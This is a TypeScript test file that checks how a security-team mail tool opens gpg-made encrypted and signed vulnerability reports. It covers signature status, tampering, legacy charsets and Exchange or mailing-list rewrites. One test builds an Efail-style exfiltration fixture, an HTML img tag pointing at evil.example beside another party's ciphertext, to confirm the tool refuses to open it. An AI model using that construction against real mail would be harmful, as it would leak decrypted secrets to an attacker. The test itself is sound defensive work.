// Message shapes made by the gpg CLI (not openpgp.js) that the open stage must read:
// signed-then-encrypted PGP/MIME (RFC 3156 §6.1) with the signature checked over the
// raw bytes of the signed part, tampering inside that layer, and an inline block that
// webmail wrapped in HTML.
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import * as openpgp from 'openpgp';
import { LIMITS } from '../src/limits.js';
import { openMessage, type OpenContext } from '../src/open/open-message.js';
import { newGpgHome, type GpgHome } from './helpers/gpg.js';
import { crlf, pgpMimeEncrypted } from './helpers/mail.js';

let gpg: GpgHome;
let teamFpr: string;
let reporterFpr: string;
let ctx: OpenContext;

beforeAll(async () => {
  gpg = await newGpgHome();
  teamFpr = (await gpg.genKey('Security Team <security@example.com>', 'cv25519')).fingerprint;
  reporterFpr = (await gpg.genKey('Rita Reporter <rita@example.net>', 'cv25519')).fingerprint;
  const team = await openpgp.readPrivateKey({ armoredKey: await gpg.exportSecret(teamFpr) });
  ctx = { teamKeys: [team], limits: LIMITS, knownKeys: async () => [] };
});
afterAll(() => gpg.cleanup());

/** A multipart/signed entity as Thunderbird builds it: protected headers and the sender's key in the signed part. */
async function signedEntity(opts: { tamper?: boolean } = {}): Promise<Buffer> {
  const pub = await gpg.exportPublic(reporterFpr);
  const signed = Buffer.from(
    crlf(`Content-Type: multipart/mixed; boundary="mixed"; protected-headers="v1"
From: Rita Reporter <rita@example.net>
To: security@example.com
Subject: Signed then encrypted: auth bypass

--mixed
Content-Type: text/plain; charset=utf-8

The admin panel trusts X-Forwarded-For.   
--mixed
Content-Type: application/pgp-keys; name="rita.asc"
Content-Disposition: attachment; filename="rita.asc"

${pub}
--mixed--`),
  );
  const { signature, micalg } = await gpg.signDetached(signed, reporterFpr);
  const body = opts.tamper ? Buffer.from(signed.toString('latin1').replace('X-Forwarded-For', 'X-Real-IP'), 'latin1') : signed;
  return Buffer.concat([
    Buffer.from(crlf(`Content-Type: multipart/signed; micalg=${micalg}; protocol="application/pgp-signature"; boundary="sig"\n\n--sig\n`)),
    body,
    Buffer.from(crlf(`\n--sig\nContent-Type: application/pgp-signature; name="signature.asc"\n\n`)),
    signature,
    Buffer.from(crlf('\n--sig--\n')),
  ]);
}

async function wrap(entity: Buffer): Promise<Buffer> {
  const ciphertext = (await gpg.encrypt(entity, [teamFpr])).toString();
  return Buffer.concat([
    Buffer.from('Return-Path: <rita@example.net>\r\n'),
    pgpMimeEncrypted({ from: 'rita@example.net', to: 'security@example.com', armoredCiphertext: ciphertext }),
  ]);
}

describe('RFC 3156 §6.1, signed then encrypted (gpg)', () => {
  it('verifies the inner detached signature over the exact signed bytes, with the key attached inside', async () => {
    const opened = await openMessage(await wrap(await signedEntity()), ctx);
    expect(opened.encryption).toBe('encrypted');
    expect(opened.subject).toBe('Signed then encrypted: auth bypass');
    expect(opened.text).toContain('X-Forwarded-For');
    expect(opened.signature.status).toBe('valid');
    expect(opened.signature.best?.fingerprint).toBe(reporterFpr);
    expect(opened.signature.best?.uidMatchesFrom).toBe(true);
  });

  it('reports an invalid signature when the signed part was changed before encryption', async () => {
    const opened = await openMessage(await wrap(await signedEntity({ tamper: true })), ctx);
    expect(opened.encryption).toBe('encrypted');
    expect(opened.signature.status).toBe('invalid');
  });
});

it('finds and decrypts an armored block that webmail wrapped in HTML (divs, <br>, &nbsp;)', async () => {
  const armored = (await gpg.encrypt('Inline in HTML: SSRF via avatar URL\n', [teamFpr])).toString();
  const html = armored
    .trim()
    .split('\n')
    .map((l) => `<div>${l === '' ? '&nbsp;' : l.replace(/\+/g, '&#43;')}</div><br>`)
    .join('\n');
  const raw = Buffer.from(
    crlf(
      `Return-Path: <w@webmail.example>\nFrom: w@webmail.example\nTo: security@example.com\nSubject: report\nContent-Type: text/html; charset=utf-8\n\n<html><body>${html}</body></html>\n`,
    ),
  );
  const opened = await openMessage(raw, ctx);
  expect(opened.encryption).toBe('encrypted');
  expect(opened.text).toContain('SSRF via avatar URL');
});

describe('a signature made with a digest we no longer accept (KMail 2010: micalg=pgp-sha1, RSA key)', () => {
  let kim: string;
  let kimCtx: OpenContext;
  beforeAll(async () => {
    // Ed25519 cannot sign SHA-1 digests: the old clients' keys were RSA (or DSA).
    kim = (await gpg.genKey('Kim KMail <kim@example.org>', 'rsa2048')).fingerprint;
    const key = await openpgp.readKey({ armoredKey: await gpg.exportPublic(kim) });
    kimCtx = { ...ctx, knownKeys: async () => [key] };
  });

  async function signedWith(digest: 'SHA1' | 'SHA256', opts: { tamper?: boolean } = {}): Promise<Buffer> {
    const part = Buffer.from(crlf('Content-Type: text/plain; charset=utf-8\n\nThe backup endpoint needs no session.\n'));
    const r = await gpg.run(['--detach-sign', '--armor', '--local-user', kim, '--digest-algo', digest], part, '');
    expect(r.code, r.stderr).toBe(0);
    const signed = opts.tamper ? Buffer.from(part.toString('latin1').replace('no session', 'a session'), 'latin1') : part;
    return Buffer.concat([
      Buffer.from(
        crlf(
          `Return-Path: <kim@example.org>\nFrom: Kim KMail <kim@example.org>\nTo: security@example.com\nSubject: backup\nMIME-Version: 1.0\nContent-Type: multipart/signed; micalg=pgp-${digest.toLowerCase()}; protocol="application/pgp-signature"; boundary="s"\n\n--s\n`,
        ),
      ),
      signed,
      Buffer.from(crlf('\n--s\nContent-Type: application/pgp-signature\n\n')),
      r.stdout,
      Buffer.from(crlf('\n--s--\n')),
    ]);
  }

  it('reads as weak, naming SHA1, not as invalid: a genuine old signature must not look forged', async () => {
    const opened = await openMessage(await signedWith('SHA1'), kimCtx);
    expect(opened.signature.status).toBe('weak');
    expect(opened.signature.best).toMatchObject({ fingerprint: kim, error: 'made with SHA1, which we no longer accept' });
    expect(opened.text).toContain('The backup endpoint needs no session.');
  });

  it('is still invalid when the text was changed after signing, SHA-1 or not', async () => {
    expect((await openMessage(await signedWith('SHA1', { tamper: true }), kimCtx)).signature.status).toBe('invalid');
  });

  it('the same key over SHA-256 reads valid: the status is about the digest, not the key', async () => {
    expect((await openMessage(await signedWith('SHA256'), kimCtx)).signature.status).toBe('valid');
  });
});

describe('a signed-only armored message pasted in a body (gpg --sign --armor), not encrypted', () => {
  async function pasted(opts: { known: boolean; tamper?: boolean }): Promise<ReturnType<typeof openMessage>> {
    // Uncompressed, so that a test can change the signed words in place.
    const r = await gpg.run(['--sign', '--armor', '--compress-algo', 'none', '--local-user', reporterFpr], 'The export endpoint lists every tenant.\n', '');
    expect(r.code, r.stderr).toBe(0);
    let armored = r.stdout.toString();
    if (opts.tamper) {
      const { data } = await openpgp.unarmor(armored);
      const bytes = Buffer.from(data as Uint8Array);
      const at = bytes.indexOf('every tenant');
      expect(at).toBeGreaterThan(0);
      bytes.write('EVERY', at, 'latin1');
      armored = openpgp.armor(openpgp.enums.armor.message, new Uint8Array(bytes));
    }
    const raw = Buffer.from(
      crlf(
        `Return-Path: <rita@example.net>\nFrom: Rita Reporter <rita@example.net>\nTo: security@example.com\nSubject: tenants\nContent-Type: text/plain; charset=utf-8\n\nHi,\n\n${armored}\nRita\n`,
      ),
    );
    const key = await openpgp.readKey({ armoredKey: await gpg.exportPublic(reporterFpr) });
    return openMessage(raw, { ...ctx, knownKeys: async () => (opts.known ? [key] : []) });
  }

  it('opens as a signed message: its text, a valid signature, the words around it kept apart (not PGP_CORRUPT, no re-encrypt request)', async () => {
    const opened = await pasted({ known: true });
    expect(opened.encryption).toBe('none');
    expect(opened.text).toBe('The export endpoint lists every tenant.\n');
    expect(opened.signature.status).toBe('valid');
    expect(opened.signature.best?.fingerprint).toBe(reporterFpr);
    expect(opened.unencryptedText).toContain('Hi,');
    expect(opened.signedPartly).toBe(true);
  });

  it('from a key we do not hold: unknown key, still opened', async () => {
    const opened = await pasted({ known: false });
    expect(opened.encryption).toBe('none');
    expect(opened.signature.status).toBe('unknown_key');
    expect(opened.text).toContain('every tenant');
  });

  it('changed in transit: invalid, and still opened as a signed message', async () => {
    const opened = await pasted({ known: true, tamper: true });
    expect(opened.encryption).toBe('none');
    expect(opened.signature.status).toBe('invalid');
    expect(opened.text).toContain('EVERY tenant');
  });
});

describe('report text in a legacy charset (KMail, mutt: ISO-8859-1/-15), made by gpg', () => {
  const mail = (charset: string, body: Buffer): Buffer =>
    Buffer.concat([
      Buffer.from(
        crlf(
          `Return-Path: <rita@example.net>\nFrom: Rita Reporter <rita@example.net>\nTo: security@example.com\nSubject: login\nMIME-Version: 1.0\nContent-Type: text/plain; charset=${charset}\nContent-Transfer-Encoding: 8bit\n\n`,
        ),
      ),
      body,
    ]);

  it('an inline block encrypted from ISO-8859-15 text reads as that text, not as U+FFFD', async () => {
    const latin9 = Buffer.from([...Buffer.from('Gr'), 0xf6, 0xdf, 0x65, 0x20, 0xa4, ...Buffer.from(': the login form leaks the user list.\n')]);
    const armored = await gpg.encrypt(latin9, [teamFpr]);
    const opened = await openMessage(mail('iso-8859-15', Buffer.from(crlf(`Hallo,\n\n${armored.toString()}\n`))), ctx);
    expect(opened.encryption).toBe('partial'); // the greeting came outside the block
    expect(opened.text).toContain('Größe €: the login form leaks the user list.');
    expect(opened.text).not.toContain('\uFFFD');
  });

  it('clear-signed ISO-8859-1 text verifies over its own bytes: a good signature is valid, not invalid', async () => {
    const latin1 = Buffer.from('Grüße: der Login prüft das Passwort nicht.\n', 'latin1');
    const r = await gpg.run(['--clearsign', '--local-user', reporterFpr], latin1, '');
    expect(r.code, r.stderr).toBe(0);
    const key = await openpgp.readKey({ armoredKey: await gpg.exportPublic(reporterFpr) });
    const known = { ...ctx, knownKeys: async () => [key] };
    const opened = await openMessage(mail('ISO-8859-1', r.stdout), known);
    expect(opened.signature.status).toBe('valid');
    expect(opened.text).toContain('Grüße: der Login prüft das Passwort nicht.');
    // The same bytes changed after signing still fail, in either charset.
    const changed = Buffer.from(r.stdout.toString('latin1').replace('nicht', 'immer'), 'latin1');
    expect((await openMessage(mail('ISO-8859-1', changed), known)).signature.status).toBe('invalid');
  });
});

it('bare text encrypted into a PGP/MIME envelope keeps its first line ("Summary: ..." is not a header of ours)', async () => {
  const text = 'Summary: XSS in the login form\nSteps: put <script> in the user name.\n';
  const ciphertext = (await gpg.encrypt(text, [teamFpr])).toString();
  const raw = Buffer.concat([
    Buffer.from('Return-Path: <rita@example.net>\r\n'),
    pgpMimeEncrypted({ from: 'rita@example.net', to: 'security@example.com', armoredCiphertext: ciphertext }),
  ]);
  const opened = await openMessage(raw, ctx);
  expect(opened.encryption).toBe('encrypted');
  expect(opened.text).toContain('Summary: XSS in the login form');
  expect(opened.text).toContain('Steps: put <script> in the user name.');
});

it('PGP/MIME that MS Exchange rewrote into multipart/mixed opens when the ciphertext part is binary, not only armored', async () => {
  const ciphertext = await gpg.encrypt('Exchange ate my envelope: open redirect in /go.\n', [teamFpr], { armor: false });
  expect(ciphertext.includes('-----BEGIN')).toBe(false);
  const b64 = (buf: Buffer): string => buf.toString('base64').replace(/.{76}/g, '$&\n');
  const raw = Buffer.from(
    crlf(`Return-Path: <rita@example.net>
From: Rita Reporter <rita@example.net>
To: security@example.com
Subject: redirect
MIME-Version: 1.0
Content-Type: multipart/mixed; boundary="_003_x_"

--_003_x_
Content-Type: text/plain; charset="us-ascii"
Content-Transfer-Encoding: quoted-printable


--_003_x_
Content-Type: application/pgp-encrypted; name="PGPMIME version identification"
Content-Disposition: attachment; filename="PGPMIME version identification"
Content-Transfer-Encoding: base64

${b64(Buffer.from('Version: 1\r\n'))}
--_003_x_
Content-Type: application/octet-stream; name="encrypted.asc"
Content-Disposition: attachment; filename="encrypted.asc"
Content-Transfer-Encoding: base64

${b64(ciphertext)}
--_003_x_--
`),
  );
  const opened = await openMessage(raw, ctx);
  expect(opened.encryption).toBe('encrypted');
  expect(opened.text).toContain('open redirect in /go');
});

describe('PGP/MIME as a part of multipart/mixed: a list footer, an attachment beside it, a forward (gpg)', () => {
  const FOOTER = 'You received this message because you are subscribed to the Google Groups "security" group.';
  let known: OpenContext;
  beforeAll(async () => {
    const key = await openpgp.readKey({ armoredKey: await gpg.exportPublic(reporterFpr) });
    known = { ...ctx, knownKeys: async () => [key] };
  });

  /** The PGP/MIME entity alone (no envelope headers), as a list passes it on as its first part. */
  async function encryptedPart(text: string, signed: boolean): Promise<string> {
    const entity = crlf(`Content-Type: text/plain; charset=utf-8\n\n${text}\n`);
    const armored = (await gpg.encrypt(entity, [teamFpr], signed ? { signWith: reporterFpr } : {})).toString();
    const whole = pgpMimeEncrypted({ from: 'rita@example.net', to: 'security@example.com', armoredCiphertext: armored }).toString('latin1');
    // Keep its Content-Type header and body: that is the part.
    const ct = whole.slice(whole.indexOf('Content-Type: multipart/encrypted'));
    return ct;
  }

  function mixed(first: string, others: string[], headers = ''): Buffer {
    return Buffer.from(
      crlf(
        `Return-Path: <rita@example.net>\nFrom: Rita Reporter <rita@example.net>\nTo: security@example.com\nSubject: report\n${headers}MIME-Version: 1.0\nContent-Type: multipart/mixed; boundary="mix"\n\n--mix\n`,
      ) +
        first +
        others.map((o) => `\r\n--mix\r\n${crlf(o)}`).join('') +
        '\r\n--mix--\r\n',
      'latin1',
    );
  }

  it("the sender's own signed and encrypted report with a Google Group footer opens: partial, the footer kept apart", async () => {
    const raw = mixed(
      await encryptedPart('IDOR in /api/invoices/ID.', true),
      [`Content-Type: text/plain; charset=utf-8\n\n-- \n${FOOTER}\n`],
      'List-Id: <security.example.com>\n',
    );
    const opened = await openMessage(raw, known);
    expect(opened.encryption).toBe('partial');
    expect(opened.text).toContain('IDOR in /api/invoices/ID.');
    expect(opened.text).not.toContain('Google Groups');
    expect(opened.unencryptedText).toContain(FOOTER);
    expect(opened.signature.status).toBe('valid');
    expect(opened.signedPartly).toBe(true);
    expect(opened.leftOut).toBeUndefined();
  });

  it('KMail: encrypted text with an unencrypted attachment beside it opens, the attachment marked as not encrypted', async () => {
    const raw = mixed(await encryptedPart('See the log beside this mail.', true), [
      'Content-Type: text/plain; name="server.log"\nContent-Disposition: attachment; filename="server.log"\n\n500 at /login\n',
    ]);
    const opened = await openMessage(raw, known);
    expect(opened.encryption).toBe('partial');
    expect(opened.text).toContain('See the log beside this mail.');
    expect(opened.attachments.map((a) => [a.filename, a.encrypted])).toContainEqual(['server.log', false]);
  });

  it("someone else's unsigned ciphertext beside the sender's own HTML (Efail's direct exfiltration) is not opened, and the message says so", async () => {
    const raw = mixed(await encryptedPart('A secret someone else sent you.', false), ['Content-Type: text/html\n\n<img src="https://evil.example/x?', '']);
    const opened = await openMessage(raw, known);
    expect(opened.encryption).toBe('none');
    expect(JSON.stringify(opened)).not.toContain('A secret someone else sent you.');
    expect(opened.leftOut).toMatch(/not signed by the sender/);
  });

  it('a forwarded encrypted message (message/rfc822) is not opened, and the message says so', async () => {
    const inner = pgpMimeEncrypted({
      from: 'other@example.org',
      to: 'security@example.com',
      armoredCiphertext: (await gpg.encrypt('forwarded secret\n', [teamFpr])).toString(),
    });
    const raw = Buffer.concat([
      Buffer.from(
        crlf(
          'Return-Path: <rita@example.net>\nFrom: Rita Reporter <rita@example.net>\nTo: security@example.com\nSubject: Fwd: report\nMIME-Version: 1.0\nContent-Type: multipart/mixed; boundary="fw"\n\n--fw\nContent-Type: text/plain\n\nSee below.\n--fw\nContent-Type: message/rfc822\n\n',
        ),
      ),
      inner,
      Buffer.from('\r\n--fw--\r\n'),
    ]);
    const opened = await openMessage(raw, known);
    expect(opened.encryption).toBe('none');
    expect(JSON.stringify(opened)).not.toContain('forwarded secret');
    expect(opened.leftOut).toMatch(/forwarded/);
  });

  it('a signed (not encrypted) PGP/MIME message with a list footer: valid over its own part, the footer kept apart', async () => {
    const part = crlf('Content-Type: text/plain; charset=utf-8\n\nThe reset token never expires.\n');
    const { signature, micalg } = await gpg.signDetached(Buffer.from(part), reporterFpr);
    const signedPart = `Content-Type: multipart/signed; micalg=${micalg}; protocol="application/pgp-signature"; boundary="sig"\r\n\r\n--sig\r\n${part}\r\n--sig\r\nContent-Type: application/pgp-signature\r\n\r\n${signature.toString()}\r\n--sig--`;
    const raw = mixed(signedPart, [`Content-Type: text/plain\n\n${FOOTER}\n`]);
    const opened = await openMessage(raw, known);
    expect(opened.encryption).toBe('none');
    expect(opened.signature.status).toBe('valid');
    expect(opened.text).toContain('The reset token never expires.');
    expect(opened.text).not.toContain('Google Groups');
    expect(opened.unencryptedText).toContain(FOOTER);
    expect(opened.signedPartly).toBe(true);
  });
});

describe('signatures GnuPG 1.4 made (test/fixtures/pgp/gnupg1, scripts/make-gnupg1-fixtures.sh)', () => {
  const DIR = join(import.meta.dirname, 'fixtures', 'pgp', 'gnupg1');
  let known: OpenContext;
  beforeAll(async () => {
    const keys = [
      ...(await openpgp.readKeys({ armoredKeys: readFileSync(join(DIR, 'vic-rsa.asc'), 'utf8') })),
      ...(await openpgp.readKeys({ armoredKeys: readFileSync(join(DIR, 'olga-dsa-elg.asc'), 'utf8') })),
    ];
    known = { ...ctx, knownKeys: async () => keys };
  });

  it.each(['v3-rsa-pgpmime.eml', 'v3-rsa-clearsigned.eml'])('%s: a version 3 signature reads as unsupported with its key ID, not as unsigned', async (file) => {
    const opened = await openMessage(readFileSync(join(DIR, file)), known);
    expect(opened.signature.status).toBe('unsupported');
    const vic = await openpgp.readKey({ armoredKey: readFileSync(join(DIR, 'vic-rsa.asc'), 'utf8') });
    expect(opened.signature.best).toMatchObject({ keyId: vic.getKeyID().toHex().toUpperCase(), error: expect.stringContaining('version 3') });
    expect(opened.text).toContain('The backup job writes the database dump to /tmp');
  });

  it.each(['dsa-pgpmime.eml', 'dsa-clearsigned.eml'])('%s: a good signature by a DSA key reads as weak, naming DSA (the key is not dropped)', async (file) => {
    const opened = await openMessage(readFileSync(join(DIR, file)), known);
    expect(opened.signature.status).toBe('weak');
    expect(opened.signature.best?.error).toBe('made with a DSA key, which we no longer accept');
  });

  it('a DSA signature over a changed text is invalid, not weak', async () => {
    const raw = readFileSync(join(DIR, 'dsa-pgpmime.eml'), 'latin1').replace('world-readable', 'owner-only');
    expect((await openMessage(Buffer.from(raw, 'latin1'), known)).signature.status).toBe('invalid');
  });
});
